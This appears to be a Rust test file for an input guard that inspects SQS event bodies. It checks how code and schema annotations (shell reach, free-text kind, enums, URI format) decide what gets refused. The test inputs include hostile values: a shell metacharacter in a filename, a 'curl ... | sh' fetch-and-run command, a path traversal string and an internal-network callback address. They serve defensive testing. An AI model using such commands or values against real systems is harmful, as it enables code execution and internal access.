//! What the code and the schema say of a field decides what the guard looks for in it.

#![allow(clippy::unwrap_used)]

use fence::{Body, EventFence, FunctionFence, InputFence, InputKind, Reach};
use guard::{Action, Inspector};
use records::Mode;
use serde_json::{Value, json};
use std::collections::BTreeMap;

fn refused(inputs: Vec<InputFence>, schema: Option<Value>, body: &Value) -> Option<String> {
    let event = EventFence { source: "sqs".into(), body: schema.map(Body), ..EventFence::default() };
    let function = FunctionFence { events: vec![event], inputs, ..FunctionFence::default() };
    let inspector = Inspector::new(&function, &BTreeMap::new(), Mode::Block).unwrap();
    let event = json!({ "Records": [{
        "messageId": "059f36b4-87a3-44ab-83d2-661975830a7d",
        "receiptHandle": "AQEBwJnKyrHigUMZj6rYigCgxlaS3SLy0a",
        "body": body.to_string(),
        "attributes": { "ApproximateReceiveCount": "1", "SentTimestamp": "1545082649183", "SenderId": "AIDAIENQZJOLO23YVJ4VO", "ApproximateFirstReceiveTimestamp": "1545082649185" },
        "messageAttributes": {},
        "md5OfBody": "e4e68fb7bd0e697a0ae8f1bb342846b3",
        "eventSource": "aws:sqs",
        "eventSourceARN": "arn:aws:sqs:us-east-2:123456789012:my-queue",
        "awsRegion": "us-east-2",
    }] });
    let decision = inspector.inspect(event.to_string().as_bytes());
    (decision.action != Action::Pass).then_some(decision.verdict.reason)
}

fn input(field: &str, reach: Option<Reach>, kind: Option<InputKind>) -> Vec<InputFence> {
    vec![InputFence { field: field.into(), reaches: reach.into_iter().collect(), kind, because: None }]
}

#[test]
fn shell_characters_are_refused_where_a_shell_reads_the_field_and_pass_elsewhere() {
    let body = json!({ "name": "report (final) & summary.pdf" });
    assert_eq!(refused(Vec::new(), None, &body), None);
    let reason = refused(input("Records[].body.name", Some(Reach::Shell), None), None, &body).unwrap();
    assert!(reason.contains("Records[0].body|json.name"), "{reason}");
    assert_eq!(refused(input("Records[].body.other", Some(Reach::Shell), None), None, &body), None);
    // What is known of a field holds of what is below it.
    assert!(refused(input("Records[].body", Some(Reach::Shell), None), None, &body).is_some());
}

#[test]
fn a_text_that_people_write_may_quote_what_a_plain_field_may_not() {
    let body = json!({ "note": "our manual says: never run `curl http://x.example/a | sh` as root" });
    assert!(refused(Vec::new(), None, &body).is_some());
    assert_eq!(refused(input("Records[].body.note", None, Some(InputKind::FreeText)), None, &body), None);
    let schema = json!({ "properties": { "note": { "type": "string", "x-kind": "free-text" } } });
    assert_eq!(refused(Vec::new(), Some(schema), &body), None);
}

#[test]
fn what_the_schema_lists_is_not_looked_at_again_but_what_it_leaves_open_is() {
    let schema =
        json!({ "properties": { "sort": { "enum": ["own", "../shared/all"] }, "note": { "type": "string" } } });
    assert_eq!(refused(Vec::new(), Some(schema.clone()), &json!({ "sort": "../shared/all" })), None);
    assert!(refused(Vec::new(), Some(schema), &json!({ "sort": "own", "note": "../shared/all" })).is_some());
}

#[test]
fn an_address_of_the_inside_is_refused_in_a_field_that_is_an_address() {
    let schema = json!({ "properties": { "callback": { "type": "string", "format": "uri" } } });
    let body = json!({ "callback": "10.0.0.7:8080/admin" });
    assert_eq!(refused(Vec::new(), None, &body), None);
    assert!(refused(Vec::new(), Some(schema), &body).is_some());
}
